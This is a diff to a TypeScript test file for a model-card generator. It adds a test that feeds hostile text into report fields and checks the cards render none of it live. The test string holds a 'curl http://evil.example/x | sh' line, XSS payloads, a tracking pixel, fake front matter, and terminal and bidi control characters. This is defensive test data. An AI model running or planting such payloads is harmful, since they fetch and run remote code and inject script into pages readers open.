@@ -26,7 +26,7 @@ import type { ArtifactStore } from '../../../src/artifacts/store';
 import type { ArtifactRef } from '../../../src/domain/artifacts';
 import type { FixedPolicy } from '../../../src/domain/rollout';
 import { exportCampaign, type ExportOptions } from '../../../src/gateway/export';
-import { adapterCard } from '../../../src/gateway/cards';
+import { adapterCard, folderCard } from '../../../src/gateway/cards';
 import { type ExportedRouter, readServed } from '../../../src/gateway/folder';
 import { modelOf, readFingerprint } from '../../../src/policy/base-model';
 import { createMerger } from '../../../src/policy/merge';
@@ -256,6 +256,44 @@ test('the hub’s cache, which holds links, is served; a link that leads elsewhe
     await expect(readServed({ folder: cached, store })).rejects.toThrow(
       /gepa\.txt is a link out of the folder, or to no/,
     );
+  }
+});
+
+/** What somebody's model or environment may say to be obeyed by a public page. */
+const HOSTILE = [
+  'Asks first.',
+  '---',
+  'license: mit',
+  '---',
+  '# Install',
+  '```',
+  'curl http://evil.example/x | sh',
+  '```',
+  '![pixel](http://evil.example/p.png) <img src=x onerror=alert(1)> [run](javascript:alert(1)) <script>x</script>',
+  '| a | b |',
+  '\u001b]0;owned\u0007\u001b[31mred\u202e',
+].join('\n');
+
+test('a card shows what models and environments said, and obeys nothing in it', async () => {
+  const folder = await exported();
+  const report = reportSchema.parse(JSON.parse(text(folder, 'report.json')));
+  const router = JSON.parse(text(folder, 'router.json')) as ExportedRouter;
+  const facts = { report, router, environments: new Set<string>(), license: 'mit', rank: 4 };
+  const cards = () => [adapterCard('books', facts), folderCard(facts)];
+  const lines = cards().map((card) => card.split('\n').length);
+  const [capability] = report.capabilities!;
+  const statement = { text: HOSTILE, behind: [], verdict: 'helps' as const, gamed: false };
+  report.capabilities = [{ ...capability!, definition: HOSTILE, statement }];
+  report.verdict = report.verdict.map((one) => ({ ...one, text: HOSTILE }));
+  Object.assign(report.campaign.target, { name: HOSTILE, version: HOSTILE });
+  for (const [n, card] of cards().entries()) {
+    expect(card).toContain('Asks first.');
+    // Each stands on the line where the harmless one stood.
+    expect(card.split('\n').length - lines[n]!).toBe(n === 0 && !capability!.statement ? 2 : 0);
+    expect(card.match(/^---$/gm)).toHaveLength(2);
+    expect(card).not.toMatch(/[^\P{Cc}\n]|\p{Bidi_Control}/u);
+    const shown = card.replace(/```[^]*?```/g, '').replaceAll(/\\[!-/:-@[-`{-~]/g, '');
+    expect(shown).not.toMatch(/<\w|!\[|\]\(|http:\/\/evil|^#+ Install/m);
   }
 });
 
